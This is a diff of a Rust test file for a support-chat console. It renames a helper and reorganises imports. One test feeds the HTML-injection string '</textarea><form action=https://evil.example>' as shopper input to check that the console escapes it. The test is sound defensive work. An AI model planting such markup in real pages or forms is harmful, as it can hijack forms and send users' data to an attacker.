@@ -3,12 +3,14 @@
 use http::StatusCode;
 use serde_json::json;
 
-use super::{answer, begin, begin_about, conversation, last_stored, send, staffed};
+use super::{answer, begin, begin_about, last_stored, newest_conversation, send, staffed};
 use crate::{
     args,
-    forms::{MessageProblem, MessageText},
+    domain::{
+        accounts::Role,
+        values::{MessageProblem, MessageText},
+    },
     islands::Answer as InPlace,
-    server::accounts::Role,
     tests::harness::db_test,
 };
 
@@ -69,7 +71,7 @@ db_test!(a1_3_2_what_a_shopper_typed_is_text_in_the_boxes_of_the_console, |t| {
     staffed(&t).await;
     let evil = "</textarea><form action=https://evil.example>";
     begin_about(&mut t.browser(), "Hello", evil).await;
-    let id = conversation(&t).await.id;
+    let id = newest_conversation(&t).await.id;
     let olga = t.staff("olga", Role::Operator).await;
     let mut console = t.staff_browser(&olga).await;
     let canned = [("answer_locale", "en"), ("title", "Hello"), ("text", "Hello {login}")];
